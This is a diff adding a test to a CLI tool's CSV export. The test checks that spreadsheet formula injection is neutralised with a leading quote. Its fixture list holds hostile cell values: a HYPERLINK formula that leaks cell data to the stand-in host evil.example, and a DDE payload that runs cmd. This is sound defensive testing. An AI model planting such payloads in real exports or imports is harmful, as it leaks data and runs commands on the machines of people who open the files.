@@ -239,6 +239,44 @@ def test_csv_all_parses(cli, program):
     assert any("acme-a" in row for row in rows)
 
 
+FORMULA_KEYS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_csv_neutralises_formulas_and_keeps_numbers(cli, engine):
+    """Keys come from CRMs and imports; opened in Excel, `=…` would run. Each such cell gets
+    a leading quote (OWASP); values stay plain numbers, negative ones too."""
+    s = Store(engine).asset("deck", "onboarding")
+    for i, key in enumerate(FORMULA_KEYS):
+        s.partner(key, "2025-01-01").user(f"rep-{i}", key)
+        s.event("lead.registered", "2026-03-10T10:00:00Z", key, f"rep-{i}", "L")
+    s.user(FORMULA_KEYS[0] + "-rep", FORMULA_KEYS[0])
+    s.event("deal.registered", "2026-03-11T10:00:00Z", FORMULA_KEYS[0], "rep-0", "D")
+    result = cli("kpi", "all", "--format", "csv", *PERIOD)
+    assert result.exit_code == 0, result.output
+    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))  # a key holds a \r
+    items = {row[1] for row in rows}
+    for key in FORMULA_KEYS:
+        assert "'" + key in items, key
+        assert key not in items
+    assert "'" + FORMULA_KEYS[0] + "-rep" in items
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
+            if cell.startswith("-"):
+                float(cell)  # only a negative number may start with a minus
+    values = [row[3] for row in rows[1:] if row[3] not in ("", "true", "false")]
+    numbers = [v for v in values if re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", v)]
+    assert numbers  # the figures are still there, as numbers
+    assert ["reps", "rep-0", "reps.leads", "1"] in rows
+
+
 # --- errors: exit 2, one line, no traceback ----------------------------------------------
 
 
